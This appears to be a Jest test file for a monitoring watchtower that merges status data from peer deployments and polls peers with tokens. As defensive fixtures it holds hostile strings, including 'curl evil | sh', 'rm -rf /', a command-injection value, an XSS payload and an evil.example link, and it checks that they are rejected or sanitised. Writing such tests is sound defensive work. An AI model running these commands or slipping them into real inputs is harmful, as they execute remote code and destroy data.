import { describe, expect, it } from '@jest/globals';
import { Secret } from '@service-bots/core/config';
import { startLoopbackServer } from '@service-bots/devnet';
import { peerSilent } from '../src/conditions/peers.ts';
import type { Overview } from '../src/overview/schema.ts';
import { PeerWatch, type SeenPeer } from '../src/peers/PeerWatch.ts';
import { peerList, peerTokens } from '../src/peers/peerList.ts';
import { withPeers } from '../src/peers/withPeers.ts';
import type { Watched } from '../src/polling/watched.ts';
import {
  at,
  deployment,
  nowMs,
  overview as overviewWith,
  poolA,
  silent,
  statusOf,
  working,
} from './fixtures.ts';

const attack = `<script>alert(1)</script>\u202e${'x'.repeat(10_000)}`;
const wallet = { address: `0x${'12'.repeat(20)}`, currency: 'ETH', balanceWei: '1', functions: [] };

/** What the watchtower of another deployment shows, unless it is called `own`. */
const overview = (watched: readonly Watched[], instance = 'own') => overviewWith(watched, { instance });
const checkpoint = () => working('checkpoint', statusOf('checkpoint', { wallet }));
const seenPeer = (shown: Overview | undefined, silence?: SeenPeer['silence']): SeenPeer => ({
  peer: { name: 'monad', url: 'http://peer:8080/api/status?peers=no' },
  askedSinceMs: nowMs - 300_000,
  answer: shown && { overview: shown, atMs: nowMs - 40_000 },
  silence,
});

describe('withPeers', () => {
  it('shows the bots, wallets, pools and alerts of every deployment, called by its name', () => {
    const bad = overview([silent(working('keeper', statusOf('keeper', { wallet })), 3, 30)], 'other');
    const shown = withPeers(overview([checkpoint()]), [seenPeer(bad)], nowMs);
    expect(shown.bots.map(({ id, level }) => [id, level])).toEqual([
      ['checkpoint', 'ok'],
      ['monad/keeper', 'critical'],
    ]);
    expect(shown.wallets.map(({ bot }) => bot)).toEqual(['checkpoint', 'monad/keeper']);
    expect(shown.pools.map(({ watchedBy }) => watchedBy.map(({ bot }) => bot))).toEqual([
      ['checkpoint', 'monad/keeper'],
    ]);
    expect(shown.verdict).toMatchObject({ level: 'critical', where: 'monad/keeper' });
    expect(shown.hosts.map(({ bots }) => bots)[0]).toEqual(['watchtower', 'monad/watchtower']);
    expect(shown.peers).toMatchObject([{ name: 'monad', level: 'critical', bots: 1 }]);
  });

  it('says that the bots of a silent peer are not known', () => {
    const silence = { sinceMs: nowMs - 30_000, polls: 3, reason: 'connect ECONNREFUSED' };
    const shown = withPeers(
      overview([checkpoint()]),
      [seenPeer(overview([checkpoint()], 'other'), silence)],
      nowMs,
    );
    expect(shown.bots[1]).toMatchObject({
      level: 'warning',
      state: 'is not known since the watchtower of monad is silent; before that: works',
    });
    expect(shown.peers).toMatchObject([{ level: 'error', lastAnswer: at(-40) }]);
  });

  it('takes neither a command nor a link of a peer over', () => {
    const given = overview(
      [working('checkpoint', statusOf('checkpoint', { openAlerts: [alert('curl evil | sh')] }))],
      'other',
    );
    const [first] = given.alerts;
    if (!first) throw new Error('there is an alert');
    const forged = {
      ...given,
      alerts: [{ ...first, source: 'x; rm -rf /', command: 'rm -rf /' }],
      wallets: [
        { bot: 'checkpoint', address: poolA, currency: '', mayCall: [], link: 'https://evil.example/' },
      ],
    };
    const shown = withPeers(overview([]), [seenPeer(forged)], nowMs);
    expect(shown.alerts[0]?.command).toBe('make alerts');
    expect(shown.wallets[0]?.link).toBeUndefined();
  });
});

describe('peerSilent', () => {
  const silence = (polls: number) => ({ sinceMs: nowMs - 20_000, polls, reason: 'HTTP 500' });
  const found = (seen: SeenPeer) => peerSilent(deployment([], { peers: [seen] }));
  it('fails with the second look in vain, and not at the first', () => {
    const shown = overview([checkpoint()], 'other');
    expect(found(seenPeer(shown))).toMatchObject([{ subject: 'monad', failing: false }]);
    expect(found(seenPeer(shown, silence(1)))).toEqual([]);
    expect(found(seenPeer(shown, silence(2)))).toMatchObject([{ failing: true, severity: 'error' }]);
    expect(found(seenPeer(undefined, silence(9)))).toMatchObject([{ failing: true }]);
  });
});

describe('PeerWatch', () => {
  let now = nowMs;
  const clock = {
    now: () => now,
    monotonicMs: () => now,
    sleep: async () => undefined,
  };
  const watch = (url: string) =>
    new PeerWatch({
      peers: [{ name: 'monad', url: `${url}/api/status` }],
      tokens: { byName: { monad: new Secret('a-token-of-20-characters') } },
      withinMs: 5_000,
      clock,
      instance: 'own',
    });

  it('brings the token, takes a document of the right form in printable lines, and nothing else', async () => {
    let body: unknown = overview([checkpoint()], 'other');
    let status = 200;
    const server = await startLoopbackServer(({ headers }) => ({
      status: headers.authorization === 'Bearer a-token-of-20-characters' ? status : 401,
      body,
    }));
    const peers = watch(server.url);
    expect((await peers.poll())[0]).toMatchObject({ silence: undefined });
    body = { ...overview([checkpoint()], 'other'), deployment: { ...overview([]).deployment, name: attack } };
    now += 1_000;
    const name = (await peers.poll())[0]?.answer?.overview.deployment.name ?? '';
    expect([name.length < 1_100, name.includes('\u202e')]).toEqual([true, false]);
    for (const [code, wrong, reason] of [
      [200, { ...overview([]), version: 9 }, /version 9 of the document/],
      [200, { hello: 1 }, /not the status of a watchtower/],
      [200, overview([], 'own'), /this watchtower itself/],
      [302, {}, /redirect/],
    ] as const) {
      [status, body] = [code, wrong];
      expect((await peers.poll())[0]?.silence?.reason).toMatch(reason);
    }
    await server.close();
  });

  it('counts a peer that serves its page and looks no more as silent', async () => {
    const body = overview([checkpoint()], 'other');
    const server = await startLoopbackServer(() => ({ status: 200, body }));
    const peers = watch(server.url);
    await peers.poll();
    now += 59_000;
    expect((await peers.poll())[0]?.silence).toBeUndefined();
    now += 2_000;
    expect((await peers.poll())[0]?.silence?.reason).toMatch(/looks at its bots no more/);
    await server.close();
  });
});

describe('peerList and peerTokens', () => {
  it.each([
    'a',
    'A=http://x',
    'a=ftp://x',
    'a=http://u:p@x',
    'a=http://x,a=http://y',
    'a=http://x,b=http://x/',
    'a=http://x?y',
  ])('refuses %s', text => {
    expect(peerList().safeParse(text).success).toBe(false);
  });
  it('reads one token for all, and one for each', () => {
    expect(peerTokens().parse('c2VjcmV0LXRva2Vu==').all?.reveal()).toBe('c2VjcmV0LXRva2Vu==');
    const { all, byName } = peerTokens().parse('monad=abc=,\nbase=def');
    expect([all, byName.monad?.reveal(), byName.base?.reveal()]).toEqual([undefined, 'abc=', 'def']);
    expect(peerTokens().safeParse('monad=abc,def').success).toBe(false);
  });
});

function alert(key: string) {
  return { key, check: 'x', severity: 'error', title: 't', message: 'm', since: at(-5) };
}
